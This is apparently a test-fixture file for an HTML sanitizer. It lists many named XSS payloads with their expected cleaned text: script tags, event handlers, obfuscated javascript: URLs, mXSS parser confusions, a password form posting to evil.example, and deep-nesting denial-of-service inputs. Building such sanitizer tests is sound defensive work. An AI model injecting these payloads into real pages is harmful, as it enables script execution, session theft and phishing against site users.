"""Hostile fragments by name. Each has the words that must remain, in their order.

A script that runs calls `pwned()`. RAW_RUNS names fragments whose scripts run if a browser shows them uncleaned.
With these fragments, the test in the browser proves that it notices a script.
"""

NUL = "\x00"
DEEP = 100_000

SCRIPTS = {
    "a script": ("<p>The ferry</p><script>pwned()</script><p>sails</p>", "The ferry sails"),
    "a script in capitals with an attribute": (
        'The <SCRIPT type="text/javascript">pwned()</SCRIPT> ferry',
        "The ferry",
    ),
    "a script from elsewhere": ('<script src="https://evil.example/x.js"></script>The quay', "The quay"),
    "a script that is not closed": ("The quay<script>pwned()", "The quay"),
    "a script with a slash for a blank": ("The<script/x>pwned()</script > quay", "The quay"),
    "a script in a script": ("The <scr<script>ipt>pwned()</scr</script>ipt> quay", "The quay"),
    "a module": ('<script type="module">import "data:text/javascript,pwned()"</script>The quay', "The quay"),
    "a script in a comment that ends early": ("The <!--><script>pwned()</script>--> quay", "The quay"),
    "a script behind a comment with a bang": ("The <!-- --!><script>pwned()</script> quay", "The quay"),
    "a script in what looks like CDATA": ("The <![CDATA[<script>pwned()</script>]]> quay", "The quay"),
    "a script behind a processing instruction": ("The <?xml version='1'?><script>pwned()</script> quay", "The quay"),
    "a script behind a doctype": ("<!DOCTYPE html><html><head><script>pwned()</script></head>The quay", "The quay"),
    "a script behind a style that is closed in an attribute": (
        '<style><img title="</style><script>pwned()</script>"></style> The quay',
        "The quay",
    ),
}

HANDLERS = {
    "a picture's error": ("The <img src=x onerror=pwned()> quay", "The quay"),
    "a picture's error without blanks": ('The <img/src="x"/onerror=pwned()> quay', "The quay"),
    "a handler on a paragraph": ('<p onmouseover="pwned()" onclick=pwned()>The quay</p>', "The quay"),
    "a handler with a line break in its name's place": ("<p\nonclick\n=\npwned()>The quay</p>", "The quay"),
    "a handler on a heading that takes the focus": (
        "<h2 tabindex=1 onfocus=pwned() autofocus>The quay</h2>",
        "The quay",
    ),
    "details that open": ("<details open ontoggle=pwned()><summary>The</summary>quay</details>", "The quay"),
    "a body that loads": ("<body onload=pwned()>The quay</body>", "The quay"),
    "an animation's end": ('<p style="animation:x 1s" onanimationend="pwned()">The quay</p>', "The quay"),
    "a moving line": ("<marquee onstart=pwned()>The quay</marquee>", "The quay"),
    "a film": ('The <video><source onerror="pwned()"></video> quay', "The quay"),
    "a sound": ("The <audio src=x onerror=pwned()></audio> quay", "The quay"),
    "an unknown element": ("<xss id=x tabindex=1 onactivate=pwned() onfocus=pwned()>The quay</xss>", "The quay"),
    "a handler behind a quotation mark that is not closed": ('<p title="x onclick=pwned()>The</p> quay', ""),
    "a picture's error in a table": (
        "<table><tr><td>The<img src=x onerror=pwned()></td></tr></table>quay",
        "The quay",
    ),
    "a handler behind a backquote": ("<img src=`x` onerror=pwned()>The quay", "The quay"),
    "a handler behind a form feed": ("<p\x0conclick=pwned()>The quay</p>", "The quay"),
}

ADDRESSES = {
    "a script's address": ('<a href="javascript:pwned()">The quay</a>', "The quay"),
    "the same in mixed letters": ('<a href="JaVaScRiPt:pwned()">The quay</a>', "The quay"),
    "the same in decimal entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwned()">The quay</a>',
        "The quay",
    ),
    "the same in entities without their ends": (
        '<a href="&#0000106&#0000097&#0000118&#0000097script:pwned()">The quay</a>',
        "The quay",
    ),
    "the same in hexadecimal entities": ('<a href="&#x6A&#x61;vascript&colon;pwned()">The quay</a>', "The quay"),
    "the same with a tab inside": ('<a href="java\tscript:pwned()">The quay</a>', "The quay"),
    "the same with an entity for a tab": ('<a href="jav&Tab;ascript:pwned()">The quay</a>', "The quay"),
    "the same with line ends": ('<a href="\njava\r\nscript\n:pwned()">The quay</a>', "The quay"),
    "the same behind control characters": ('<a href=" &#14; javascript:pwned()">The quay</a>', "The quay"),
    "the same behind a no-break space": ('<a href="\xa0javascript:pwned()">The quay</a>', "The quay"),
    "the same in full-width letters": ('<a href="ｊａｖａｓｃｒｉｐｔ:pwned()">The quay</a>', "The quay"),
    "the same behind a comment": ('<a href="javascript://lakes.example/%0Apwned()">The quay</a>', "The quay"),
    "another script": ('<a href="vbscript:pwned()">The quay</a>', "The quay"),
    "a page in an address": ('<a href="data:text/html,<script>pwned()</script>">The quay</a>', "The quay"),
    "a page in an address, packed": (
        '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">The quay</a>',
        "The quay",
    ),
    "a blob": ('<a href="blob:https://lakes.example/1">The quay</a>', "The quay"),
    "a file": ('<a href="file:///etc/hostname">The quay</a>', "The quay"),
    "an address in another's namespace": ('<a xlink:href="javascript:pwned()">The quay</a>', "The quay"),
    "an area of a map": ('<map><area href="javascript:pwned()"></map>The quay', "The quay"),
    "a quotation's source": ('<blockquote cite="javascript:pwned()">The quay</blockquote>', "The quay"),
    "a picture's address": ('<img src="javascript:pwned()">The quay', "The quay"),
    "a background": ('<table background="javascript:pwned()"><tr><td>The quay</td></tr></table>', "The quay"),
    "what the link tells when it is followed": ('<a href="https://a.example" ping="https://evil.example">A</a>', "A"),
    "a window that knows who opened it": ('<a href="https://a.example" target="_blank">The quay</a>', "The quay"),
}

STYLES = {
    "a style": ("<style>body{background:url(https://evil.example)}</style>The quay", "The quay"),
    "a style's expression": ('<p style="width:expression(pwned())">The quay</p>', "The quay"),
    "a style's address": ('<p style="background:url(javascript:pwned())">The quay</p>', "The quay"),
    "a style that covers the page": ('<p style="position:fixed;inset:0;z-index:9999">The quay</p>', "The quay"),
    "a style sheet from elsewhere": ('<link rel="stylesheet" href="https://evil.example/x.css">The quay', "The quay"),
    "a style that says bold with an end of its own": (
        '<span style="font-weight:bold;}</style>">The</span> quay',
        "The quay",
    ),
}

FRAMES = {
    "a frame": ('<iframe src="javascript:parent.pwned()"></iframe>The quay', "The quay"),
    "a frame with a page inside": ('<iframe srcdoc="<script>parent.pwned()</script>"></iframe>The quay', "The quay"),
    "an object": ('<object data="data:text/html,<script>parent.pwned()</script>"></object>The quay', "The quay"),
    "an embedded page": ('The <embed src="data:text/html,<script>parent.pwned()</script>"> quay', "The quay"),
    "a base": ('<base href="https://evil.example/"><a href="/quay">The quay</a>', "The quay"),
    "a refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">The quay', "The quay"),
    "a policy": ("<meta http-equiv=Content-Security-Policy content=\"img-src 'none'\">The quay", "The quay"),
    "a form": (
        '<form action="https://evil.example"><input name=password>The <button>quay</button></form>',
        "The quay",
    ),
    "a button with an address": ('<form><button formaction="javascript:pwned()">The quay</button></form>', "The quay"),
    "a portal": ('<portal src="https://evil.example"></portal>The quay', "The quay"),
    "an applet": ('<applet code="x"></applet>The quay', "The quay"),
}

CONFUSIONS = {
    "a style in mathematics": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
        "",
    ),
    "mathematics in a form in a form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()></style>The quay",
        "",
    ),
    "an annotation": (
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwned()></style></annotation-xml>'
        "</math>The quay",
        "The quay",
    ),
    "a drawing's style": ('<svg></p><style><a id="</style><img src=1 onerror=pwned()>"></svg> The quay', "The quay"),
    "a drawing that loads": ("<svg onload=pwned()></svg>The quay", "The quay"),
    "a drawing's script": ("<svg><script>pwned()</script></svg>The quay", "The quay"),
    "a drawing's script in entities": ("<svg><script>&#112;wned()</script></svg>The quay", "The quay"),
    "a drawing that moves an address": (
        "<svg><a><animate attributeName=href values=javascript:pwned() /><text y=20>X</text></a></svg>The quay",
        "The quay",
    ),
    "a drawing that uses another": ('<svg><use href="data:image/svg+xml,<svg/>#x"/></svg>The quay', "The quay"),
    "a foreign object": ("<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>The quay", "The quay"),
    "a description that breaks out": ("<svg><desc><p><style><img src=x onerror=pwned()></style></desc></svg>quay", ""),
    "no script": ('<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript> The quay', "The quay"),
    "a template": ("<template><img src=x onerror=pwned()></template>The quay", "The quay"),
    "a template with a shadow": (
        "<div><template shadowrootmode=open><img src=x onerror=pwned()></template></div>The quay",
        "The quay",
    ),
    "a title": ('<title><p title="</title><img src=x onerror=pwned()>"></title> The quay', "The quay"),
    "a text box": ('<textarea><p title="</textarea><img src=x onerror=pwned()>"></textarea> The quay', "The quay"),
    "an old listing": ('<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp> The quay', "The quay"),
    "plain text that never ends": ("The quay <plaintext><img src=x onerror=pwned()>", "The quay"),
    "a choice": ("<select><style></select><img src=x onerror=pwned()></style>The quay", ""),
    "frames that are not there": ("<noframes><style></noframes><img src=x onerror=pwned()></style>The quay", ""),
    "an embedded page that is not there": (
        '<noembed><img title="</noembed><img src onerror=pwned()>"></noembed> A',
        "A",
    ),
    "a foreign namespace": (
        '<x:script xmlns:x="x:y">pwned()</x:script> The quay',
        "The quay",
    ),
    "an import of another language": (
        "<?import namespace='t' implementation='#x'><t:set>The</t:set> quay",
        "The quay",
    ),
    "a conditional comment": ("<!--[if gte IE 4]><script>pwned()</script><![endif]-->The quay", "The quay"),
    "markup in entities": (
        "<p>The &lt;img src=x onerror=pwned()&gt; quay</p>",
        "The quay",
    ),
    "markup in entities twice": ("<p>&amp;lt;script&amp;gt;pwned()</p>", "&lt;script&gt;pwned()"),
    "markup in a title": ('<abbr title="</abbr><img src=x onerror=pwned()>">UN</abbr>', "UN"),
    "markup in a language": ("<p lang='\"><img src=x onerror=pwned()>'>The quay</p>", "The quay"),
    "markup in a speaker's name": (
        '<p data-part="question"><b data-speaker="&quot; onclick=pwned()">A</b> b</p>',
        "A b",
    ),
    "markup in a picture's digest": (
        "<figure data-picture='\"><script>pwned()</script>'>The quay</figure>",
        "The quay",
    ),
    "a link in a link": ('<a href="https://a.example">The <a href="javascript:pwned()">quay</a></a>', "The quay"),
    "a broken nesting": ("<b><p><i>The</b> quay</p></i> is <ul><p>open</ul></li></table>", "The quay is open"),
    "a table that throws out what is no cell": ("<table><tr>The<td>quay</td>is</tr>open</table>", "The is open quay"),
    "a name that clobbers": ('<a id=body name=getElementById href="https://a.example">The</a> quay', "The quay"),
    "two names that clobber": ("<form id=x><input id=y name=attributes></form><p id=x>The quay</p>", "The quay"),
    "a bell and its kin": ("<p>The\x07 qu\x1bay</p>", "The quay"),
    "nothing in a tag's name": (f"The <scr{NUL}ipt>pwned()</scr{NUL}ipt> quay", "The"),
    "nothing in an address": (f'<a href="java{NUL}script:pwned()">The quay</a>', "The quay"),
    "an entity for nothing": ('<a href="java&#0;script:pwned()">The quay</a>', "The quay"),
    "a very long entity": (f"<p>The &{'a' * 50_000}; &#{'9' * 50_000}; quay</p>", ""),
    "an entity that does not exist": ("<p>The &quay; &#xD800; &#x110000; end</p>", "The &quay; \ufffd \ufffd end"),
    "a text turned around": ("<p>The \u202eyauq\u202c is open</p>", "The yauq is open"),
    "many attributes": (f"<p {' '.join(f'on{number}=pwned()' for number in range(5000))}>The quay</p>", "The quay"),
    "a very long attribute": (f'<a href="https://a.example/{"x" * 200_000}">The quay</a>', "The quay"),
}

DEPTHS = {
    "blocks a hundred thousand deep": ("<div>" * DEEP + "The quay" + "</div>" * DEEP, "The quay"),
    "blocks that are never closed": ("<div>" * DEEP + "The quay", "The quay"),
    "marks a hundred thousand deep": ("<b>" * DEEP + "The quay", "The quay"),
    "quotations a hundred thousand deep": ("<blockquote>" * DEEP + "The quay", "The quay"),
    "lists a hundred thousand deep": ("<ul><li>" * (DEEP // 2) + "The quay", "The quay"),
    "tables a hundred thousand deep": ("<table><tr><td>" * (DEEP // 4) + "The quay", "The quay"),
    "marks that overlap": ("<b><i>" * 2000 + "The" + "</b></i>" * 2000 + " quay", "The quay"),
    "closings of nothing": ("</div></p></b>" * DEEP + "The quay", "The quay"),
    "comments that are never closed": ("The quay" + "<!--" * DEEP, "The quay"),
    "half tags": ("The quay " + "<" * DEEP, "The quay"),
    "depth that hides its ends in comments": ("<div><!--</div>-->" * 15_000 + "The quay", "The quay"),
    "depth that hides its ends in titles": ("<div><title></div></title>" * 9_000 + "The quay", "The quay"),
    "depth that hides in an attribute": ('<div ="><div>' * 19_000 + "The quay", "The quay"),
    "depth behind what a title hides": (
        '<title><div a="</title>' + "<div>" * 30_000 + '"></div></title>The quay',
        "The quay",
    ),
    "depth behind what a style's comment hides": (
        "<style><!--</style>" + "<div>" * 30_000 + "--></style>The quay",
        "The quay",
    ),
    "marks that every block opens anew": (
        "".join(f"<font size={number}>" for number in range(10_000)) + "<p>The quay" * 10_000,
        "The quay",
    ),
    "a megabyte of markup": ("<i>a</i>" * 120_000, "a"),
    "more than a megabyte": ("The quay " * 120_000, "The quay"),
}

HOSTILE = SCRIPTS | HANDLERS | ADDRESSES | STYLES | FRAMES | CONFUSIONS | DEPTHS
# These fragments are refused, because parsing them could cost too much. Nothing of them is stored.
REFUSED = [name for name in DEPTHS if name not in ("marks that overlap", "depth behind what a style's comment hides")]
# If a browser shows these fragments without cleaning, their scripts run even without a click.
RAW_RUNS = [
    "a script",
    "a script in capitals with an attribute",
    "a picture's error",
    "a picture's error without blanks",
    "details that open",
    "a frame with a page inside",
    "a picture's error in a table",
    "a drawing that loads",
    "a drawing's script in entities",
]
